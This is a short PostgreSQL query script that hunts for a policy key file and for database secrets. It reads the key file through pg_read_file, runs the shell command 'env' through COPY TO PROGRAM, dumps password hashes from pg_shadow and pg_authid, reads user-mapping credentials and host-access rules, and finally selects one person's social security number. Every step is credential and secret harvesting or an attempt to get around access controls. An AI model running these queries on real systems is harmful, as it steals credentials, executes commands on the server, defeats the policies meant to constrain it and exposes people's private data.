-- looking for the key and the policies in settings, catalogs and functions
SHOW ALL \g /dev/null
SELECT name, setting, boot_val, reset_val, sourcefile FROM pg_settings WHERE name LIKE 'journey%' OR setting LIKE '%00000000000000000007%' ORDER BY 1;
SELECT * FROM pg_file_settings;
SELECT count(*) FROM pg_proc WHERE prosrc LIKE '%00000000000000000007%' AND oid >= 16384;
SELECT current_setting('journey.key_file');
SELECT pg_read_file(current_setting('journey.key_file', true));
COPY (SELECT 1) TO PROGRAM 'env';
SELECT pg_stat_file('journey.key');
SELECT pg_hba_file_rules();
SELECT usename, passwd FROM pg_shadow;
SELECT rolname, rolpassword FROM pg_authid;
SELECT umoptions FROM pg_user_mappings;
SELECT ssn FROM people WHERE id = 12;
